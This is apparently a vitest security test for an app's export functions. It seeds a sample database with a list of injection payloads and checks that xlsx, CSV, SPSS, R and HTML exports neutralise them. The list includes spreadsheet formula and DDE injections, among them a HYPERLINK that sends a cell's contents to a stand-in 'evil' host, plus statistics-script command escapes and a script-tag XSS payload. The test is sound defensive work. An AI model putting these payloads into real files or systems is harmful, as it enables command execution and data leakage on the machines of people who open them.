import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import JSZip from 'jszip'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Db } from '../../../src/main/db/database'
import { type TestApp, testApp } from '../../support/testApp'

/** What somebody might type in the hope that a program runs it. */
const attacks = [
  '=HYPERLINK("http://evil/"&A1,"evil")',
  "+cmd|' /C evil'!A0",
  '-2+3+cmd|evil',
  '@SUM(1+1)*cmd|evil',
  '\t=evil(1)',
  '\r=evil(2)',
  '\n=evil(3)',
  ' =evil(4)',
  '\u200b=evil(5)',
  '\uff1devil(6)',
  '\uff0bevil(7)',
  '\uff0devil(8)',
  '\uff20evil(9)',
  '=DDE("evil";"x";"y")',
  `evil'.\nHOST COMMAND=['evil'].\n'`,
  `evil"); system("evil") #`,
  'evil\\"); q() #',
  `evil'); evil #`,
  '</t></is></c><c r="A1"><f>evil()</f></c>',
  '<img src=x onerror=evil()><script>evil()</script>',
  '";=evil();"',
  ',=evil(),',
  '&quot;&amp;evil&#10;=evil',
]

let app: TestApp
beforeAll(async () => {
  app = testApp()
  await app.call('business.createSample', { language: 'es' })
  plantEverywhere(app.db)
})
afterAll(() => {
  expect(app.failures).toEqual([])
  app.close()
})

/** Texts that people type, of every feature; what stands in JSON is found by its shape. */
const columns: Readonly<Record<string, readonly string[]>> = {
  business: ['name'],
  person: ['name'],
  tag: ['name'],
  attribute: ['name'],
  wave: ['label'],
  customer: ['name', 'phone', 'email', 'notes', 'nickname', 'address'],
  customer_contact: ['notes', 'note', 'text'],
  customer_case: ['description', 'customer_name', 'request', 'product', 'reference'],
  case_message: ['text', 'body'],
  case_event: ['text', 'note'],
  suggestion: ['text', 'reply'],
  scorecard: ['name'],
  competitor: ['name', 'notes'],
  promise: ['what', 'who', 'note', 'reference'],
  action: ['what', 'why'],
  survey_version: ['questionnaire'],
  response: ['answers'],
}

/** Puts an attack into each of those texts, past all rules: the data of somebody who typed nothing else. */
function plantEverywhere(db: Db): void {
  const triggers = db
    .prepare("SELECT name FROM sqlite_schema WHERE type = 'trigger'")
    .pluck()
    .all() as string[]
  for (const name of triggers) db.exec(`DROP TRIGGER "${name}"`)
  const next = attackInTurn()
  let planted = 0
  for (const [table, wanted] of Object.entries(columns)) {
    const present = db.prepare('SELECT name FROM pragma_table_info(?)').pluck().all(table) as string[]
    for (const column of wanted.filter((name) => present.includes(name))) {
      const rows = db.prepare(`SELECT rowid AS id, "${column}" AS text FROM "${table}"`).all() as Row[]
      const write = db.prepare(`UPDATE OR IGNORE "${table}" SET "${column}" = ? WHERE rowid = ?`)
      for (const { id, text } of rows) if (text) planted += write.run(plantedIn(text, next), id).changes
    }
  }
  expect(planted).toBeGreaterThan(500)
}

interface Row {
  readonly id: number
  readonly text: string | null
}

function attackInTurn(): () => string {
  let count = 0
  return () => `${attacks[count++ % attacks.length]} ${count}`
}

function plantedIn(text: string, next: () => string): string {
  if (!/^[[{]/.test(text)) return next()
  return JSON.stringify(JSON.parse(text), (key, value) =>
    typeof value === 'string' && value !== '' && /^(es|en|text|other)$/.test(key) ? next() : value,
  )
}

type Write = (path: string) => Promise<unknown>

/** Every file that leaves the app with words of people in it. */
const exportsOfTheApp: readonly (readonly [file: string, write: Write])[] = [
  ['workbook.xlsx', () => app.call('reports.workbook', { waveId: 3, language: 'es' })],
  ['workbook-en.xlsx', () => app.call('reports.workbook', { waveId: 1, language: 'en' })],
  ['csv.zip', () => app.call('reports.analyst', { waveId: 3, format: 'csv', language: 'es' })],
  ['spss.zip', () => app.call('reports.analyst', { waveId: 3, format: 'spss', language: 'es' })],
  ['r.zip', () => app.call('reports.analyst', { waveId: 3, format: 'r', language: 'es' })],
  [
    'cases.xlsx',
    () => app.call('cases.export', { format: 'xlsx', filter: { group: 'all' }, withPersonal: true }),
  ],
  [
    'cases.csv',
    () => app.call('cases.export', { format: 'csv', filter: { group: 'all' }, withPersonal: true }),
  ],
  ['customers.xlsx', () => app.call('customers.export', { format: 'xlsx' })],
  ['customers.csv', () => app.call('customers.export', { format: 'csv' })],
  ['person.html', () => app.call('customers.exportPerson', { id: 1 })],
  ['form.xlsx', () => app.call('surveys.exportForm', { surveyId: 1 })],
  ['sheets.xlsx', () => app.call('responses.exportTemplate', { surveyId: 1, waveId: null })],
  [
    'errors.csv',
    () =>
      app.call('responses.saveImportErrors', {
        fileName: 'x.csv',
        rows: attacks.map((text) => [text, text]),
      }),
  ],
]

async function written(file: string, write: Write): Promise<Buffer> {
  const path = join(app.folder, file)
  app.chosenFiles.push(path)
  await write(path)
  await app.jobs.idle()
  return readFileSync(path)
}

describe('whatever people typed, it is data in the file that leaves', () => {
  test.each(exportsOfTheApp)('%s', async (file, write) => {
    const bytes = await written(file, write)
    const suffix = file.split('.').at(-1)
    if (suffix === 'xlsx') await expectNoFormulaOfData(bytes)
    else if (suffix === 'zip') await expectSafeArchive(bytes)
    else if (suffix === 'csv') expectGuarded(bytes.toString('utf8'), ';')
    else expectEscaped(bytes.toString('utf8'))
  })
})

/** No formula, definition, condition or link of the workbook holds what was typed, but as a text in quotes. */
async function expectNoFormulaOfData(bytes: Buffer): Promise<void> {
  const zip = await JSZip.loadAsync(bytes)
  let hasWords = false
  for (const [name, part] of Object.entries(zip.files)) {
    if (!/\.(xml|rels)$/.test(name)) continue
    const xml = await part.async('string')
    expect([name, /TargetMode="External"|<!DOCTYPE|<ddeLink|oleObject/.test(xml)]).toEqual([name, false])
    const running =
      /<(f|c:f|definedName|formula|formula1|formula2|calculatedColumnFormula)(?:\s[^>]*)?>([^<]*)</g
    for (const [, , formula = ''] of xml.matchAll(running))
      expect([name, withoutTexts(plain(formula))]).toEqual([
        name,
        expect.not.stringMatching(/evil|cmd\||DDE/),
      ])
    hasWords ||= xml.includes('evil')
  }
  expect(hasWords).toBe(true)
}

const plain = (xml: string) =>
  xml
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')

/** A formula without its texts, in which a quote is doubled, and without the quoted names of sheets. */
const withoutTexts = (formula: string) => formula.replace(/"(?:[^"]|"")*"|'(?:[^']|'')*'!/g, '')

function expectGuarded(text: string, delimiter: string): void {
  expect(text).toContain('evil')
  const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter }).data
  const width = rows[0]?.length
  const cells = rows.filter((row) => row.length > 1).flat()
  // A cell that broke out of its quotes would make the row longer.
  expect(new Set(rows.filter((row) => row.length > 1).map((row) => row.length))).toEqual(new Set([width]))
  const unguarded = cells.filter(
    (cell) =>
      /^[\s\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell),
  )
  expect(unguarded).toEqual([])
}

async function expectSafeArchive(bytes: Buffer): Promise<void> {
  const zip = await JSZip.loadAsync(bytes)
  for (const [name, part] of Object.entries(zip.files)) {
    expect(name).toMatch(/^[\p{L}\p{N} ()_.-]+$/u)
    const text = await part.async('string')
    if (name.endsWith('.csv')) expectGuarded(text, ',')
    if (name.endsWith('.R'))
      expect(codeOf(text, /"(?:[^"\\\n]|\\.)*"|#[^\n]*/g)).not.toMatch(/evil|system|q\(\)/)
    if (name.endsWith('.sps'))
      expect(codeOf(text, /'(?:[^'\n]|'')*'|"(?:[^"\n]|"")*"|^\*[^\n]*/gm)).not.toMatch(/evil|HOST/)
  }
}

/** The code of a script without its texts and remarks. */
function codeOf(script: string, quotedOrRemark: RegExp): string {
  expect(script).toContain('evil')
  return script.replaceAll('\r\n', '\n').replace(quotedOrRemark, '')
}

function expectEscaped(html: string): void {
  expect(html).toContain('evil')
  expect(html).not.toMatch(/<script|<img|<iframe|\sonerror=(?!evil\(\)&gt;)/)
}
